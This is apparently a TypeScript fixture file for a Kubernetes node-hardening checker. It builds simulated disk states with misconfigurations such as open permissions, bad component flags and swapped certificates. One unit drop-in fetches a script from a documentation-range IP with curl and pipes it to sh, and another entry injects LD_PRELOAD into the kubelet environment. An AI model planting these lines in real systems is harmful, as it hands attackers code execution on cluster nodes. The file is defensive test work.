/** What no document says of a node's disk, and that gives it away all the same. */
import { createPublicKey, generateKeyPairSync, type KeyObject } from 'node:crypto';
import {
  added,
  all,
  copied,
  edited,
  flag,
  KUBERNETES,
  manifest,
  mode,
  onDisk,
  PKI,
  reissued,
  removed,
} from './node-disk.js';
import { LEAVES } from './node-keepers.js';
import type { Mutant } from './types.js';

const API = 'kube-apiserver';
const KCM = 'kube-controller-manager';
const KUBELET = '/var/lib/kubelet';
const DATA = '/var/lib/etcd';
const UNIT = '/usr/lib/systemd/system/kubelet.service';
const CONFIGURATION = `${KUBELET}/config.yaml`;
const SOMEBODY = 1000;

/** As the package has it, with its part of kubeadm. */
const SERVICE = '[Service]\nExecStart=/usr/bin/kubelet\nRestart=always\n';
const PART = [
  '[Service]',
  `Environment="KUBELET_KUBECONFIG_ARGS=--bootstrap-kubeconfig=${KUBERNETES}/bootstrap-kubelet.conf --kubeconfig=${KUBERNETES}/kubelet.conf"`,
  `Environment="KUBELET_CONFIG_ARGS=--config=${CONFIGURATION}"`,
  `EnvironmentFile=-${KUBELET}/kubeadm-flags.env`,
  'EnvironmentFile=-/etc/default/kubelet',
  'ExecStart=',
  'ExecStart=/usr/bin/kubelet $KUBELET_KUBECONFIG_ARGS $KUBELET_CONFIG_ARGS $KUBELET_KUBEADM_ARGS $KUBELET_EXTRA_ARGS',
  '',
].join('\n');
export const unit = all(added(UNIT, SERVICE, 0o644), added(`${UNIT}.d/10-kubeadm.conf`, PART, 0o644));
/** One more part of the unit. */
const part = (name: string, defect: string, lines: string): Mutant =>
  onDisk(
    `unit-${name}`,
    `the unit of the kubelet ${defect}`,
    ['P-193'],
    all(unit, added(`/etc/systemd/system/kubelet.service.d/20-own.conf`, `[Service]\n${lines}\n`, 0o644)),
  );

const asksHome = (text: string): string => text.replace(/server: \S+/, 'server: https://192.0.2.10:6443');

const folder = (path: string, bits: number): ReturnType<typeof added> =>
  all(added(`${path}/.there`, 'x\n', 0o600), (disk) => {
    disk.folders.set(path, bits);
  });
export const data = all(
  added(`${DATA}/member/snap/db`, 'x'),
  added(`${DATA}/member/wal/0.wal`, 'x'),
  folder(DATA, 0o700),
  folder(`${DATA}/member/snap`, 0o700),
);

const wrong = (rule: string, [component, name, value]: readonly [string, string, string]): Mutant =>
  onDisk(
    `${component}-beyond-${name}-${value.replaceAll(/[^\w.]+/g, '-').slice(0, 40)}`,
    `${component} is started with --${name}=${value}`,
    [rule],
    flag(component, name, value),
  );

const pod = (name: string, more: string): string =>
  [
    'apiVersion: v1',
    'kind: Pod',
    `metadata: { name: ${name}, namespace: kube-system }`,
    `spec: { hostNetwork: true, containers: [{ name: ${name}, image: registry.example/${name}:v1${more} }`,
  ].join('\n');
const mounting = (path: string): string =>
  `${pod('helper', ', volumeMounts: [{ name: a, mountPath: /a }]')}], volumes: [{ name: a, hostPath: { path: ${path} } }] }\n`;

/** What a control plane has and a worker has not. */
export const worker = all(
  ...['admin', 'super-admin', 'controller-manager', 'scheduler'].map((name) => removed(`${KUBERNETES}/${name}.conf`)),
  ...[API, KCM, 'kube-scheduler', 'etcd'].map((name) => removed(manifest(name))),
  (disk) => {
    for (const path of disk.files.keys())
      if (path.startsWith(`${PKI}/`) && path !== `${PKI}/ca.crt`) disk.files.delete(path);
  },
);

const JOIN = [
  'apiVersion: kubeadm.k8s.io/v1beta4',
  'kind: JoinConfiguration',
  'discovery: { bootstrapToken: { apiServerEndpoint: "192.0.2.10:6443", token: 9a08jv.c0izixklcxtmnze7 } }',
  '',
].join('\n');

const named = (file: string): string => file.replace('/', '-');
/** A curve that crypto/tls does not have. */
const onP224 = (): KeyObject => generateKeyPairSync('ec', { namedCurve: 'secp224r1' }).privateKey;
const spki = (key: KeyObject): string => createPublicKey(key).export({ type: 'spki', format: 'pem' }).toString();
const pkcs8 = (key: KeyObject): string => key.export({ type: 'pkcs8', format: 'pem' }).toString();

export const mutants: readonly Mutant[] = [
  ...[KUBELET, `${KUBELET}/pods`, `${KUBELET}/plugins_registry`, `${PKI}/etcd`].map((path) =>
    onDisk(
      `${path.slice(1).replaceAll('/', '-')}-is-open`,
      `anybody may write to ${path}`,
      ['P-190'],
      folder(path, 0o777),
    ),
  ),
  onDisk(
    'kubernetes-is-open-to-more-files',
    'anybody may put a file into /etc/kubernetes',
    ['P-190'],
    folder(KUBERNETES, 0o1777),
  ),
  onDisk('manifest-with-power', 'a manifest is setuid', ['P-190'], mode(manifest(API), 0o4600)),
  onDisk('unit-is-open', 'anybody may write the unit of the kubelet', ['P-190'], all(unit, mode(UNIT, 0o666))),
  onDisk(
    'unit-is-somebodys',
    'the unit of the kubelet belongs to a user',
    ['P-190'],
    all(unit, (disk) => {
      disk.owners.set(UNIT, SOMEBODY);
    }),
  ),
  onDisk(
    'data-of-etcd-open',
    'anybody reads the data of etcd',
    ['P-191'],
    all(data, mode(`${DATA}/member/snap/db`, 0o644)),
  ),
  onDisk(
    'data-of-etcd-somebodys',
    'the data of etcd belong to a user',
    ['P-191', 'P-190'],
    all(data, (disk) => {
      disk.owners.set(`${DATA}/member/snap/db`, SOMEBODY);
    }),
  ),
  onDisk(
    'folder-of-etcd-open',
    'the folder of the data of etcd has mode 0755',
    ['P-192'],
    all(data, folder(DATA, 0o755)),
  ),
  part('two-commands', 'has two commands', 'ExecStart=/usr/bin/kubelet --v=2'),
  part('no-command', 'has no command', 'ExecStart='),
  part('of-a-user', 'runs it as a user', 'User=ubuntu'),
  part('fetches', 'fetches a script and runs it', 'ExecStartPre=/bin/sh -c "curl -s http://198.51.100.1/a | sh"'),
  onDisk(
    'unit-of-another-program',
    'the unit starts another program',
    ['P-193'],
    all(
      unit,
      edited(`${UNIT}.d/10-kubeadm.conf`, (text) => text.replace('/usr/bin/kubelet', '/usr/bin/helper')),
    ),
  ),
  onDisk(
    'unit-with-a-library',
    'a file of the unit has a library loaded',
    ['P-193', 'P-150'],
    all(unit, added('/etc/default/kubelet', 'LD_PRELOAD=/srv/a.so\nKUBELET_EXTRA_ARGS=\n', 0o644)),
  ),
  wrong('P-194', [API, 'enable-admission-plugins', 'NodeRestriction,PodSecurty']),
  wrong('P-194', [API, 'enable-admission-plugins', 'NodeRestriction,PodSecurityPolicy']),
  wrong('P-194', [API, 'disable-admission-plugins', 'CertificateApproval']),
  wrong('P-194', [KCM, 'controllers', '*,bootstrapsigner,tokencleaner,nobody']),
  wrong('P-195', [API, 'disable-admission-plugins', 'PodSecurity']),
  wrong('P-195', [KCM, 'controllers', '*,bootstrapsigner,tokencleaner,-garbage-collector-controller']),
  wrong('P-196', [API, 'service-node-port-range', '6000-7000']),
  wrong('P-196', [API, 'service-node-port-range', '32767-30000']),
  wrong('P-196', [API, 'oidc-issuer-url', 'https://oidc.example']),
  wrong('P-196', [API, 'oidc-username-prefix', '-']),
  wrong('P-196', [API, 'requestheader-uid-headers', 'X-Remote-User']),
  wrong('P-196', [API, 'coordinated-leadership-lease-duration', '5s']),
  wrong('P-196', [API, 'log-flush-frequency', '0s']),
  wrong('P-196', [KCM, 'attach-detach-reconcile-sync-period', '500ms']),
  wrong('P-196', ['kube-scheduler', 'show-hidden-metrics-for-version', '1.20']),
  wrong('P-196', ['etcd', 'experimental-initial-corrupt-check', 'true']),
  wrong('P-196', [API, 'tls-sni-cert-key', `${PKI}/sni.crt,${PKI}/sni.key`]),
  wrong('P-196', [API, 'kubelet-certificate-authority', `${PKI}/ca.crt`]),
  wrong('P-196', [KCM, 'node-cidr-mask-size', '12']),
  wrong('P-196', [KCM, 'node-cidr-mask-size', '30']),
  wrong('P-196', [KCM, 'leader-elect-renew-deadline', '20s']),
  wrong('P-196', [KCM, 'concurrent-deployment-syncs', '0']),
  wrong('P-196', [KCM, 'cluster-signing-kubelet-client-cert-file', `${PKI}/front-proxy-ca.crt`]),
  wrong('P-196', [KCM, 'tls-sni-cert-key', `${PKI}/sni.crt,${PKI}/sni.key`]),
  wrong('P-196', ['kube-scheduler', 'leader-elect-resource-name', KCM]),
  wrong('P-196', ['kube-scheduler', 'tls-sni-cert-key', `${PKI}/sni.crt,${PKI}/sni.key`]),
  wrong('P-196', ['etcd', 'election-timeout', '100']),
  wrong('P-196', ['etcd', 'listen-peer-urls', 'https://192.0.2.99:2380']),
  wrong('P-196', ['etcd', 'client-crl-file', `${PKI}/etcd/a.crl`]),
  onDisk(
    'join-left',
    'the configuration of a join is left in the home of root',
    ['P-197'],
    added('/root/join.yaml', JOIN),
  ),
  onDisk(
    'copy-is-open',
    'anybody reads the copy of admin.conf in the home of root',
    ['P-198'],
    all(copied(`${KUBERNETES}/admin.conf`, '/root/.kube/config'), mode('/root/.kube/config', 0o644)),
  ),
  onDisk(
    'archive-is-open',
    'anybody reads an archive of the keys',
    ['P-198'],
    added(`${KUBERNETES}/pki.tgz`, 'x', 0o644),
  ),
  onDisk(
    'worker-without-its-proxy',
    'the kubelet of a worker asks a proxy on loopback, and there is none',
    ['P-303'],
    all(
      worker,
      added('/etc/crontab', '', 0o644),
      edited(`${KUBERNETES}/kubelet.conf`, (text) => text.replace(/server: \S+/, 'server: https://127.0.0.1:6443')),
    ),
  ),
  onDisk(
    'worker-that-asks-itself',
    'the table of names leads a worker that asks for its control plane to itself',
    ['P-303'],
    all(
      worker,
      added('/etc/crontab', '', 0o644),
      added('/etc/hostname', 'w-1\n', 0o644),
      added('/etc/hosts', '127.0.0.1 localhost\n192.0.2.20 w-1 api.example\n', 0o644),
      edited(`${KUBERNETES}/kubelet.conf`, (text) => text.replace(/server: \S+/, 'server: https://api.example:6443')),
    ),
  ),
  {
    ...onDisk(
      'worker-with-its-proxy',
      'the kubelet of a worker asks a proxy on loopback, which is a service',
      [],
      all(
        worker,
        added('/etc/crontab', '', 0o644),
        added('/etc/haproxy/haproxy.cfg', 'defaults\n', 0o644),
        edited(`${KUBERNETES}/kubelet.conf`, (text) => text.replace(/server: \S+/, 'server: https://127.0.0.1:6443')),
      ),
    ),
    name: 'harmless-node-worker-with-its-proxy',
  },
  ...['kube-apiserver', 'kube-controller-manager', 'kube-scheduler'].map((component) =>
    onDisk(
      `${component}-by-a-proxy`,
      `${component} asks machines of its cluster by way of a proxy`,
      ['P-302'],
      all(
        edited(`${KUBERNETES}/${component.replace('kube-', '')}.conf`, asksHome),
        flag('kube-apiserver', 'advertise-address', '192.0.2.10'),
        edited(manifest(component), (text) =>
          text.replace(
            new RegExp(`^( {4})name: ${component}\\n`, 'm'),
            '$&$1env: [{ name: HTTPS_PROXY, value: "http://proxy:3128" }]\n',
          ),
        ),
      ),
    ),
  ),
  onDisk(
    'kubelet-by-a-proxy',
    'the kubelet asks its API server by way of a proxy',
    ['P-302'],
    all(
      edited(`${KUBERNETES}/kubelet.conf`, asksHome),
      added('/etc/default/kubelet', 'KUBELET_EXTRA_ARGS=\nHTTPS_PROXY=http://proxy:3128\nNO_PROXY=localhost\n', 0o644),
    ),
  ),
  {
    ...onDisk(
      'kubelet-beside-a-proxy',
      'the kubelet has a proxy, and asks its API server without it',
      [],
      all(
        edited(`${KUBERNETES}/kubelet.conf`, asksHome),
        added(
          '/etc/default/kubelet',
          'KUBELET_EXTRA_ARGS=\nHTTPS_PROXY=http://proxy:3128\nNO_PROXY=192.0.2.0/24\n',
          0o644,
        ),
      ),
    ),
    name: 'harmless-node-kubelet-beside-a-proxy',
  },
  onDisk(
    'unit-that-nothing-starts',
    'nothing starts the unit of the kubelet',
    ['P-193'],
    all(unit, added(UNIT, `${SERVICE}[Install]\nAlso=a.service\n`, 0o644)),
  ),
  onDisk(
    'unit-of-parts-alone',
    'the unit of the kubelet is gone, and its parts are there',
    ['P-193'],
    all(added(`${UNIT}.d/10-kubeadm.conf`, PART, 0o644), added('/usr/bin/kubelet', 'x', 0o755)),
  ),
  onDisk(
    'kubelet-with-two-sockets',
    'files of the kubelet name two sockets',
    ['P-240'],
    added(
      `${KUBELET}/instance-config.yaml`,
      'apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\ncontainerRuntimeEndpoint: unix:///run/crio/crio.sock\n',
    ),
  ),
  onDisk(
    'worker-with-a-privileged-helper',
    'a worker runs a static Pod with privileges',
    ['P-199'],
    all(worker, added(manifest('helper'), `${pod('helper', ', securityContext: { privileged: true }')}] }\n`)),
  ),
  onDisk(
    'worker-with-the-key-of-the-ca',
    'a worker has the key of the CA under another name',
    ['P-199'],
    all(copied('ca.key', `${KUBERNETES}/other.txt`), worker),
  ),
  onDisk('helper-mounts-keys', 'a static Pod mounts all keys', ['P-200'], added(manifest('helper'), mounting(PKI))),
  ...[API, KCM, 'kube-scheduler', 'etcd'].map((component) =>
    onDisk(
      `${component}-may-not-read`,
      `${component} runs as a user who may not read its keys`,
      ['P-201'],
      edited(manifest(component), (text) =>
        text.replace(/^ {2}securityContext:\n/m, '  securityContext:\n    runAsUser: 65534\n'),
      ),
    ),
  ),
  ...LEAVES.map(([file, authority, , leaf]) =>
    onDisk(
      `${named(file)}-on-another-curve`,
      `${file}.crt is on the curve P-224`,
      ['P-202'],
      reissued(file, authority, { ...leaf, key: onP224() }),
    ),
  ),
  onDisk('accounts-on-another-kind', 'tokens are to be signed with Ed25519', ['P-202'], (disk) => {
    const { privateKey } = generateKeyPairSync('ed25519');
    disk.write(`${PKI}/sa.key`, pkcs8(privateKey), 0o600);
    disk.write(`${PKI}/sa.pub`, spki(privateKey), 0o600);
  }),
  ...LEAVES.map(([file, , , leaf]) =>
    onDisk(
      `${named(file)}-names-another-issuer`,
      `${file}.crt names the key of another issuer`,
      ['P-203'],
      reissued(file, 'a stranger', leaf),
    ),
  ),
  onDisk(
    'two-of-one-number',
    'two certificates are one',
    ['P-203'],
    copied('apiserver.crt', 'apiserver-kubelet-client.crt'),
  ),
  ...LEAVES.filter(([file]) => file !== 'apiserver-kubelet-client').map(([file, authority]) =>
    onDisk(
      `${named(file)}-is-the-authority`,
      `${file}.crt is the authority`,
      ['P-203'],
      copied(`${authority}.crt`, `${file}.crt`),
    ),
  ),
  {
    ...onDisk(
      'beyond',
      'a unit of the package, data of etcd, homes, a load balancer, and an API server as a user of its own',
      [],
      all(
        unit,
        data,
        added('/etc/default/kubelet', "KUBELET_EXTRA_ARGS='--v=2'\n", 0o644),
        copied(`${KUBERNETES}/admin.conf`, '/root/.kube/config'),
        added('/root/deployment.yaml', 'kind: Deployment\n', 0o644),
        added(`${KUBERNETES}/pki.tgz`, 'x', 0o600),
        added(manifest('haproxy'), mounting('/etc/haproxy/haproxy.cfg').replaceAll('helper', 'haproxy')),
        flag(API, 'enable-admission-plugins', 'NodeRestriction,EventRateLimit'),
        flag(KCM, 'controllers', '*,bootstrap-signer-controller,token-cleaner-controller,-nodeipam'),
        flag(API, 'service-node-port-range', '30000-50000'),
        flag('etcd', 'heartbeat-interval', '250'),
        flag('etcd', 'election-timeout', '2500'),
      ),
    ),
    name: 'harmless-node-beyond',
  },
  {
    ...onDisk(
      'worker',
      'a worker with a load balancer of its own',
      [],
      all(worker, added(manifest('haproxy'), mounting('/etc/haproxy/haproxy.cfg').replaceAll('helper', 'haproxy'))),
    ),
    name: 'harmless-node-worker-with-a-load-balancer',
  },
];
